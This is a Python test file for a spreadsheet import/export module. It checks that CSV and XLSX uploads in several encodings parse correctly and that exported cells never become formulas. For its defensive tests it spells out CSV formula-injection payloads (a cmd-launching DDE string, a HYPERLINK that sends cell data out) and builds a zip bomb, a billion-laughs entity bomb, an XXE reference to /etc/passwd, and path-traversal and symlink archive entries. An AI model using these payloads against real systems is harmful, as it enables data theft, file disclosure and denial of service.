"""Spreadsheets: whatever is sent is read as text or refused, and nothing that is written out is a formula."""

import asyncio
import io
import subprocess
import sys
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import orjson
import pytest
import xlsxwriter  # pyright: ignore[reportMissingTypeStubs]
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from shared.errors import Refusal
from shared.sheets import opened, writing
from shared.sheets.limits import (
    BINARY,
    CSV_TYPE,
    XLSX_TYPE,
    MacrosInside,
    OldOrProtectedWorkbook,
    SheetEmpty,
    SheetTooLarge,
    SheetUnreadable,
)

PAYLOADS = [
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "%0A=1+1",
    '=HYPERLINK("http://example.invalid?x="&A1,"x")', "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(1)", "|calc", "=", "http://example.invalid", "{=1+1}",
]  # fmt: skip
"""What a spreadsheet program might calculate, follow or run (OWASP, CSV injection)."""

NUMBERS = ["+7 701 123 45 67", "+77011234567", "-5", "-12 500,50", "+1", "0"]


async def read(content: bytes) -> list[tuple[int, list[str | None]]]:
    media_type = XLSX_TYPE if content.startswith(BINARY) else CSV_TYPE
    return [(number, cells) async for page in opened.pages(content, media_type=media_type) for number, cells in page]


async def cells(content: bytes) -> list[list[str | None]]:
    return [row for _, row in await read(content)]


def workbook(write: Callable[[Any, Any], None]) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        write(book, book.add_worksheet())  # pyright: ignore[reportUnknownMemberType]
    return out.getvalue()


def rewritten(content: bytes, changes: dict[str, bytes | None], *, add: dict[str, bytes] | None = None) -> bytes:
    """A workbook of which some members are others, or gone."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            changed = changes.get(name, old.read(name))
            if changed is not None:
                new.writestr(name, changed)
        for name, extra in (add or {}).items():
            new.writestr(name, extra)
    return out.getvalue()


PLAIN = workbook(lambda _, sheet: sheet.write_row(0, 0, ["Аты-жөні", "Телефон"]))
SHEET = "xl/worksheets/sheet1.xml"
_HEAD = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_FOOT = b"</sheetData></worksheet>"


def sheet_of(*rows: bytes) -> bytes:
    return rewritten(PLAIN, {SHEET: _HEAD + b"".join(rows) + _FOOT})


# --- what people send -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("separator", [";", ",", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
async def test_csv_is_read_however_it_was_saved(separator: str, encoding: str) -> None:
    lines = [f"Аты-жөні{separator}Телефон", f'"Қасымова{separator} Айгүл"{separator}+7701', "", separator]
    text = "\r\n".join([*lines, f"Әли{separator}8", ""])

    assert await read(text.encode(encoding)) == [
        (1, ["Аты-жөні", "Телефон"]),
        (2, [f"Қасымова{separator} Айгүл", "+7701"]),
        # Numbered as the program on the coordinator's screen does.
        (5, ["Әли", "8"]),
    ]


@pytest.mark.parametrize(
    ("encoding", "names"),
    [
        ("cp1251", ["Иванова Мария Петровна", "Сидоров Пётр Алексеевич", "Ким Елена Викторовна"]),
        ("kz1048", ["Қасымова Айгүл Ерланқызы", "Әбдірахманов Дәурен Өмірұлы", "Жұмағұлова Гүлнұр Ғаниқызы"]),
    ],
)
async def test_code_pages_of_old_programs_are_recognised(encoding: str, names: list[str]) -> None:
    text = "\r\n".join(["ФИО;Телефон", *(f"{name};+77011234567" for name in names)])

    assert [row[0] for row in await cells(text.encode(encoding))] == ["ФИО", *names]


async def test_the_line_by_which_excel_is_told_the_separator_is_no_row() -> None:
    assert await cells(b"sep=,\r\na,b;c\r\n") == [["a", "b;c"]]


async def test_a_workbook_s_numbers_and_days_are_read_as_people_write_them() -> None:
    def write(book: Any, sheet: Any) -> None:
        sheet.write_row(2, 1, ["Аты-жөні", "Телефон", "Туған күні", "Балл", "Иә"])
        sheet.write_row(4, 1, ["Әли", 77011234567])
        sheet.write_datetime(4, 3, date(2001, 5, 17), book.add_format({"num_format": "dd.mm.yyyy"}))
        sheet.write_row(4, 4, [4.5, True])

    assert await read(workbook(write)) == [
        (3, ["Аты-жөні", "Телефон", "Туған күні", "Балл", "Иә"]),
        (5, ["Әли", "77011234567", "2001-05-17", "4.5", "true"]),
    ]


async def test_a_formula_is_told_apart_from_what_it_shows() -> None:
    def write(_: Any, sheet: Any) -> None:
        sheet.write_row(0, 1, ["Аты-жөні", "Телефон"])
        sheet.write_string(1, 1, "=a text")
        sheet.write_string(1, 2, "8701")
        sheet.write_formula(2, 1, "=1+1", None, 2)
        sheet.write_string(2, 2, "8702")

    assert (await cells(workbook(write)))[1:] == [["=a text", "8701"], [None, "8702"]]


async def test_only_the_first_sheet_that_can_be_seen_is_read() -> None:
    def write(book: Any, sheet: Any) -> None:
        sheet.write(0, 0, "hidden")
        second, third = book.add_worksheet(), book.add_worksheet()
        second.write(0, 0, "seen")
        second.write_formula(1, 0, "=1+1")
        third.write(0, 0, "another")
        second.activate()
        second.set_first_sheet()
        sheet.hide()

    assert await cells(workbook(write)) == [["seen"], [None]]


async def test_empty_cells_with_a_format_down_to_the_last_row_are_nothing() -> None:
    formatted = sheet_of(
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>',
        b'<row r="1048576"><c r="XFD1048576" s="0"/></row>',
    )

    assert await cells(formatted) == [["a"]]


# --- what attackers send (T10) --------------------------------------------------------------------------------------


def bomb() -> bytes:
    """284 KiB that unpack to 300 MB."""
    return rewritten(PLAIN, {SHEET: b" " * 300_000_000})


def lying_bomb() -> bytes:
    """Says in its directory that it is small."""
    content = rewritten(PLAIN, {}, add={"xl/big.xml": b"A" * 3_000_000})
    return content.replace((3_000_000).to_bytes(4, "little"), (30).to_bytes(4, "little"))


def million_rows() -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(1, 1_000_001))
    return rewritten(PLAIN, {SHEET: _HEAD + rows + _FOOT})


def billion_laughs() -> bytes:
    entities = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    dtd = b'<?xml version="1.0"?><!DOCTYPE worksheet [' + entities + b"]>"
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row>'
    return rewritten(PLAIN, {SHEET: dtd + (_HEAD + row + _FOOT).partition(b"?>")[2]})


def foreign_entity() -> bytes:
    dtd = b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
    return rewritten(PLAIN, {SHEET: dtd + (_HEAD + row + _FOOT).partition(b"?>")[2]})


def symbolic_link() -> bytes:
    out = io.BytesIO(rewritten(PLAIN, {SHEET: None}))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo(SHEET)
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def protected() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)


HOSTILE: dict[str, tuple[Callable[[], bytes], type[Refusal]]] = {
    "a zip bomb": (bomb, SheetTooLarge),
    "a bomb that lies of its size": (lying_bomb, SheetUnreadable),
    "ten thousand entries": (
        lambda: rewritten(PLAIN, {}, add={f"xl/{n}.xml": b"" for n in range(10_000)}), SheetTooLarge,
    ),
    "a path that leads outside": (lambda: rewritten(PLAIN, {}, add={"../../evil.xml": b"x"}), SheetUnreadable),
    "a symbolic link": (symbolic_link, SheetUnreadable),
    "a billion laughs": (billion_laughs, SheetUnreadable),
    "an entity from a file": (foreign_entity, SheetUnreadable),
    "HTML that calls itself a zip": (lambda: b"PK\x03\x04<html><table><tr><td>Name", SheetUnreadable),
    "a million rows of one cell": (million_rows, SheetTooLarge),
    "two cells as far apart as can be": (
        lambda: sheet_of(
            b'<row r="1"><c r="A1"><v>1</v></c></row>', b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        ),
        SheetTooLarge,
    ),
    "two cells as far apart as is allowed": (
        lambda: sheet_of(
            b'<row r="1"><c r="A1"><v>1</v></c></row>', b'<row r="100001"><c r="CV100001"><v>1</v></c></row>'
        ),
        SheetTooLarge,
    ),
    "macros": (lambda: rewritten(PLAIN, {}, add={"xl/vbaProject.bin": b"x"}), MacrosInside),
    "a macro workbook by its type": (
        lambda: rewritten(
            PLAIN,
            {
                "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                b'<Default Extension="xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
            },
        ),
        MacrosInside,
    ),
    "an old or an encrypted workbook": (protected, OldOrProtectedWorkbook),
    "half a workbook": (lambda: PLAIN[: len(PLAIN) // 2], SheetUnreadable),
    "a workbook without a sheet": (lambda: rewritten(PLAIN, {SHEET: None}), SheetUnreadable),
    "a zip of something else": (lambda: rewritten(PLAIN, {"xl/workbook.xml": None}), SheetUnreadable),
    "XML that does not end": (lambda: rewritten(PLAIN, {SHEET: _HEAD + b"<row>" * 100_000}), SheetUnreadable),
    "nothing": (lambda: b"", SheetEmpty),
    "nothing but separators": (lambda: b";;;\n;;;\n" * 10, SheetEmpty),
    "an empty sheet": (lambda: workbook(lambda _, __: None), SheetEmpty),
    "bytes of no text": (lambda: b"\x00\x01\x02\xff" * 1000, SheetUnreadable),
    "a line of a million columns": (lambda: b"a;" * 1_000_000, SheetTooLarge),
    "a quote that is never closed": (lambda: b'a;b\n"' + b"x" * 5_000_000, SheetUnreadable),
    "more rows than are taken": (lambda: b"a;b\n" * 100_002, SheetTooLarge),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
async def test_t10_a_hostile_file_is_refused(name: str) -> None:
    make, refusal = HOSTILE[name]

    with pytest.raises(refusal):
        await read(make())


_READ_AND_TELL = """
import re, sys
from shared.sheets import reading
reading.main()
sys.stderr.write(re.search(r"VmHWM:\\s+([0-9]+) kB", open("/proc/self/status").read())[1])
"""
"""Of the kernel's books, only this page forgets what the process was before it became this program."""


@pytest.mark.parametrize(
    "name", ["a zip bomb", "a billion laughs", "a million rows of one cell", "a line of a million columns"]
)
def test_t10_a_hostile_file_takes_little_memory(name: str, tmp_path: Path) -> None:
    make, refusal = HOSTILE[name]
    (tmp_path / "sent").write_bytes(make())

    with (tmp_path / "sent").open("rb") as sent:
        reader = subprocess.run([sys.executable, "-c", _READ_AND_TELL], stdin=sent, capture_output=True, check=True)

    assert orjson.loads(reader.stdout) == {"refused": refusal.code()}
    assert int(reader.stderr) * 1024 < 200_000_000


@pytest.mark.parametrize(("content", "media_type"), [(PLAIN, CSV_TYPE), (b"<html><table>", XLSX_TYPE)])
async def test_a_file_that_is_not_what_it_is_called_is_refused(content: bytes, media_type: str) -> None:
    with pytest.raises(SheetUnreadable):
        await anext(opened.pages(content, media_type=media_type))


async def test_a_reader_is_ended_with_whoever_waits_for_it() -> None:
    reading = asyncio.create_task(read(b"a;b\n" * 100_000))
    await asyncio.sleep(0)

    reading.cancel()

    with pytest.raises(asyncio.CancelledError):
        await reading
    assert await cells(b"a;b\n") == [["a", "b"]]


# --- what is written (T9) -------------------------------------------------------------------------------------------


async def test_t9_no_cell_of_a_workbook_is_a_formula_or_a_link_whatever_was_typed_into_it() -> None:
    rows = [["Аты-жөні"], *([payload] for payload in [*PAYLOADS, *NUMBERS])]

    content = writing.xlsx_file(rows, sheet="Volunteers")

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read(SHEET).decode()
        assert "<f" not in sheet.replace("<font", "")
        assert "hyperlink" not in sheet
        assert not [name for name in archive.namelist() if "externalLink" in name or "sheet1.xml.rels" in name]
    shown = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert shown == rows
    assert None not in [row[0] for row in await cells(content)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_t9_a_csv_cell_that_would_be_calculated_begins_with_an_apostrophe(payload: str) -> None:
    if payload[0] in "h{":
        assert writing.harmless(payload) == payload
    else:
        assert writing.harmless(payload) == f"'{payload}"


@pytest.mark.parametrize("number", NUMBERS)
def test_t9_phones_and_negative_numbers_survive(number: str) -> None:
    assert writing.harmless(number) == number


@given(st.text(max_size=50))
def test_what_comes_back_in_our_own_file_is_what_it_was(text: str) -> None:
    assert writing.without_apostrophe(writing.harmless(text)) == text


async def test_a_csv_of_ours_opens_as_what_was_written() -> None:
    rows = [["Аты-жөні", "Ескерту"], ['Қасым; "Айгүл"', "екі\nжол"], ["=1+1", "+7 701 123 45 67"]]

    content = writing.csv_file(rows)

    assert content.startswith("\ufeff".encode())
    assert await cells(content) == [*rows[:2], ["'=1+1", "+7 701 123 45 67"]]
